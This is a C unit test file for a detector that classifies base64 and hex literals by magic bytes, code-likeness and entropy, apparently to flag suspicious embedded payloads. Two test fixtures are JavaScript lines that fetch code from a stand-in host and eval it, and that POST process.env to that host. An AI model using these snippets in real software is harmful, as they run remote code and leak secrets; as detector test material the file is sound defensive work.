/* What an encoded literal holds, and what looks like code. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>

#include "read/decode.h"
#include "util/buf.h"

static void put_base64(struct buf *b, const void *bytes, size_t n)
{
	static const char abc[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	const unsigned char *p = bytes;

	for (size_t i = 0; i < n; i += 3) {
		unsigned v = (unsigned)p[i] << 16 | (i + 1 < n ? (unsigned)p[i + 1] << 8 : 0) | (i + 2 < n ? p[i + 2] : 0u);

		buf_add_char(b, abc[v >> 18]);
		buf_add_char(b, abc[v >> 12 & 63]);
		buf_add_char(b, i + 1 < n ? abc[v >> 6 & 63] : '=');
		buf_add_char(b, i + 2 < n ? abc[v & 63] : '=');
	}
}

static void put_hex(struct buf *b, const void *bytes, size_t n)
{
	for (size_t i = 0; i < n; i++)
		buf_printf(b, "%02x", ((const unsigned char *)bytes)[i]);
}

/* Bytes without structure, the same each time. */
static void noise(unsigned char *p, size_t n)
{
	unsigned long long x = 88172645463325252ull;

	for (size_t i = 0; i < n; i++) {
		x ^= x << 13;
		x ^= x >> 7;
		x ^= x << 17;
		p[i] = (unsigned char)(x >> 24);
	}
}

static enum blob_kind kind_of_bytes(const char *head, size_t head_n, bool hex)
{
	unsigned char bytes[600];
	struct arena a;
	struct buf b;
	struct blob r;

	arena_init(&a, 0);
	buf_init(&b, 4096);
	noise(bytes, sizeof(bytes));
	memcpy(bytes, head, head_n);
	if (hex)
		put_hex(&b, bytes, sizeof(bytes));
	else
		put_base64(&b, bytes, sizeof(bytes));
	r = blob_look(&a, buf_str(&b));
	assert_true(r.kind == BLOB_NONE || str_is(str_of(r.scheme), hex ? "hex" : "base64"));
	if (r.bytes.len)
		assert_memory_equal(r.bytes.p, bytes, r.bytes.len < sizeof(bytes) ? r.bytes.len : sizeof(bytes));
	buf_release(&b);
	arena_release(&a);
	return r.kind;
}

static void contents_are_told_by_their_first_bytes(void **state)
{
	(void)state;
	for (int hex = 0; hex < 2; hex++) {
		assert_int_equal(kind_of_bytes("\x89PNG\r\n", 6, hex), BLOB_MEDIA);
		assert_int_equal(kind_of_bytes("wOF2", 4, hex), BLOB_MEDIA);
		assert_int_equal(kind_of_bytes("\0asm", 4, hex), BLOB_WASM);
		assert_int_equal(kind_of_bytes("MZ\x90", 3, hex), BLOB_EXECUTABLE);
		assert_int_equal(kind_of_bytes("\x7f" "ELF", 4, hex), BLOB_EXECUTABLE);
		assert_int_equal(kind_of_bytes("\x1f\x8b\x08", 3, hex), BLOB_ARCHIVE);
		assert_int_equal(kind_of_bytes("PK\x03\x04", 4, hex), BLOB_ARCHIVE);
		assert_int_equal(kind_of_bytes("\xe3\x11\x93", 3, hex), BLOB_OPAQUE);
	}
}

static void code_in_a_literal_is_code(void **state)
{
	static const char code[] = "const h = require('https'); h.get('https://a.example/x', function (r) { var b = ''; r.on('data', function (c) { b += c; }); r.on('end', function () { eval(b); }); });";
	static const char prose[] = "The quick brown fox jumps over the lazy dog while nobody looks, and then it goes home to sleep until the next day begins with rain. Nothing in here is to be run by anyone.";
	struct arena a;
	struct buf b;

	(void)state;
	arena_init(&a, 0);
	buf_init(&b, 4096);
	put_base64(&b, code, sizeof(code) - 1);
	assert_int_equal(blob_look(&a, buf_str(&b)).kind, BLOB_CODE);
	buf_clear(&b);
	put_base64(&b, prose, sizeof(prose) - 1);
	assert_int_equal(blob_look(&a, buf_str(&b)).kind, BLOB_TEXT);
	buf_release(&b);
	arena_release(&a);
}

static void ordinary_literals_are_nothing(void **state)
{
	static const char *const texts[] = {
		"short", "abcdefabcdef",
		"M10 10 L20 20 L30 10 Z M10 10 L20 20 L30 10 Z M10 10 L20 20 L30 10 Z M10 10 L20 20 L30 10 Z M10 10 L20 20 L30 10 Z M10 10 L20 20 L30 10 Z M10 10 L20 20 L30 10 Z M10 10 L20 20",
		"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
		"0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890",
		"break|case|catch|class|const|continue|debugger|default|delete|do|else|enum|export|extends|false|finally|for|function|if|implements|import|in|instanceof|interface|let|new|null|package",
	};
	struct arena a;

	(void)state;
	arena_init(&a, 0);
	for (size_t i = 0; i < sizeof(texts) / sizeof(*texts); i++)
		assert_int_equal(blob_look(&a, str_of(texts[i])).kind, BLOB_NONE);
	arena_release(&a);
}

static void prose_is_no_code(void **state)
{
	(void)state;
	assert_true(looks_like_js(STR("var a = require('fs'); a.readFile('x', function (e, d) { return d; });")));
	assert_true(looks_like_js(STR("(()=>{const e=process.env;fetch('https://a.example',{method:'POST',body:JSON.stringify(e)})})();")));
	assert_false(looks_like_js(STR("Please return the form to our office if you want to change the window or the document (in writing).")));
	assert_false(looks_like_js(STR("{\"name\": \"x\", \"version\": \"1.0.0\", \"files\": [\"a\", \"b\"]}")));
	assert_false(looks_like_js(STR("\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f\x10\x11")));
	assert_false(looks_like_js(STR("")));
}

static void entropy_is_in_bits(void **state)
{
	unsigned char bytes[256 * 16];

	(void)state;
	assert_int_equal(entropy_of(STR("aaaaaaaa")), 0);
	assert_int_equal(entropy_of(STR("abababab")), 100);
	for (size_t i = 0; i < sizeof(bytes); i++)
		bytes[i] = (unsigned char)i;
	assert_int_equal(entropy_of(str_view(bytes, sizeof(bytes))), 800);
	assert_int_equal(entropy_of(STR("")), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(contents_are_told_by_their_first_bytes),
		cmocka_unit_test(code_in_a_literal_is_code),
		cmocka_unit_test(ordinary_literals_are_nothing),
		cmocka_unit_test(prose_is_no_code),
		cmocka_unit_test(entropy_is_in_bits),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
